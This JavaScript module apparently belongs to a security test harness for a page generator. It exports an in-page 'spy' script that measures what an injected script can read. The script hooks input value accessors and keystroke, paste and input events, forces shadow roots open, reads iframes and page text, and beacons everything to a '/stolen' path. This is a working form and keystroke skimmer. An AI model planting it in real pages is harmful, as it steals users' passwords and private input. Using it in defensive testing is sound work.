/**
 * What a page of the generator sees of what is put into it: every way in which a script can read a field, and what it posts to
 * its server. It runs in the page.
 * @see guides: threats, oracle O1
 * @module
 */

/** Where pages post what they saw. */
export const stolenPath = '/stolen';

export const spy = `(() => {
  const seen = new Set();
  const tell = (value) => {
    const text = String(value ?? '');
    if (text === '' || seen.has(text)) return;
    seen.add(text);
    (window.stolen ??= []).push(text);
    try { navigator.sendBeacon('${stolenPath}', text); } catch { /* none here */ }
  };
  const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  Object.defineProperty(HTMLInputElement.prototype, 'value', { ...own, get() { const value = own.get.call(this); tell(value); return value; }, set(value) { tell(value); own.set.call(this, value); } });
  for (const type of ['input', 'change', 'beforeinput', 'keydown', 'keyup', 'keypress', 'paste', 'drop', 'focusin', 'focusout', 'select', 'message', 'toggle', 'beforetoggle']) {
    addEventListener(type, (event) => {
      tell(event.target && event.target.value);
      tell(event.data);
      if (event.key && event.key.length > 1 === false) tell(event.key);
    }, true);
  }
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (options) { const root = attach.call(this, { ...options, mode: 'open' }); (window.roots ??= []).push(root); return root; };
  const look = () => {
    for (const field of document.querySelectorAll('input, textarea')) tell(own.get.call(field));
    for (const frame of document.querySelectorAll('iframe')) { try { tell(frame.contentDocument && frame.contentDocument.body.innerText); } catch { /* another origin */ } }
    for (const root of window.roots ?? []) tell(root.innerHTML);
    tell(document.documentElement.innerText.includes('CNRY-') ? document.documentElement.innerText : '');
    requestAnimationFrame(look);
  };
  requestAnimationFrame(look);
})();`;
